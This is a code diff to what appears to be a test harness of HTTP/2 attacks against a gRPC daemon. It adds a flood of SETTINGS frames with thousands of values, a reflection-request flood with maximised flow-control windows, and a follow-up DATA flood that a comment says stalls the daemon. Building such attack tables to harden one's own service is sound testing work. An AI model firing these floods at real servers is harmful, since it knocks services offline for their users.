@@ -10,6 +10,8 @@ import * as h2 from "./http2_frames.ts";
 
 const CHECK = "/grpc.health.v1.Health/Check";
 const REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
+/** A setting: SETTINGS_MAX_CONCURRENT_STREAMS, 100. */
+const MAX_STREAMS = [0, 3, 0, 0, 0, 100];
 const LARGEST_WINDOW = 2 ** 31 - 1;
 
 /** Where an attack sends what. */
@@ -49,6 +51,16 @@ function streams(
 const call = (id: number, path = CHECK, flags = 0) =>
   h2.headerBlock(id, h2.callFields(path), { flags });
 const message = (bytes: number[]) => [0, ...h2.uint32(bytes.length), ...bytes];
+
+/** Opens a stream without windows in the way; many questions for it whose answers are large. */
+async function ask({ send }: Peer): Promise<Uint8Array> {
+  await send(h2.frame(h2.SETTINGS, [0, 4, ...h2.uint32(LARGEST_WINDOW)]));
+  await send(h2.frame(h2.WINDOW_UPDATE, h2.uint32(LARGEST_WINDOW - 65_535)));
+  await send(call(1, REFLECT));
+  const symbol = "necoperf.NecoPerf";
+  const asked = message([0x22, symbol.length, ...new TextEncoder().encode(symbol)]);
+  return h2.frame(h2.DATA, Array(500).fill(asked).flat(), { streamId: 1 });
+}
 
 /** By their names. */
 export const ATTACKS: Record<string, (peer: Peer) => Promise<void>> = {
@@ -104,6 +116,7 @@ export const ATTACKS: Record<string, (peer: Peer) => Promise<void>> = {
   "more streams than allowed": streams((id) => [call(id)]),
   "pings that nobody reads the answers of": flood(h2.frame(h2.PING, new Uint8Array(8))),
   "settings that nobody reads the answers of": flood(h2.frame(h2.SETTINGS)),
+  "settings of many values": flood(h2.frame(h2.SETTINGS, Array(2700).fill(MAX_STREAMS).flat())),
   "window updates": flood(h2.frame(h2.WINDOW_UPDATE, h2.uint32(1))),
   "priorities": flood(h2.frame(h2.PRIORITY, [0, 0, 0, 0, 1], { streamId: 1 })),
   "frames of no known type": flood(h2.frame(99)),
@@ -116,13 +129,14 @@ export const ATTACKS: Record<string, (peer: Peer) => Promise<void>> = {
     await flood(h2.frame(h2.DATA, [0], { streamId: 1 }))({ send });
   },
   "questions that nobody reads the answers of": async ({ send }) => {
-    await send(h2.frame(h2.SETTINGS, [0, 4, ...h2.uint32(LARGEST_WINDOW)]));
-    await send(h2.frame(h2.WINDOW_UPDATE, h2.uint32(LARGEST_WINDOW - 65_535)));
-    await send(call(1, REFLECT));
-    const symbol = "necoperf.NecoPerf";
-    const asked = message([0x22, symbol.length, ...new TextEncoder().encode(symbol)]);
-    const many = h2.frame(h2.DATA, Array(500).fill(asked).flat(), { streamId: 1 });
+    const many = await ask({ send });
     for (;;) await send(many);
+  },
+  /** The daemon reads nothing more then. */
+  "data after questions that nobody reads the answers of": async ({ send }) => {
+    await send(await ask({ send }));
+    await new Promise((resolve) => setTimeout(resolve, 1000));
+    await flood(h2.frame(h2.DATA, new Uint8Array(16_000), { streamId: 1 }))({ send });
   },
   /** 0 and 4096, again and again, in one header block. */
   "table sizes that change": streams((id) => [
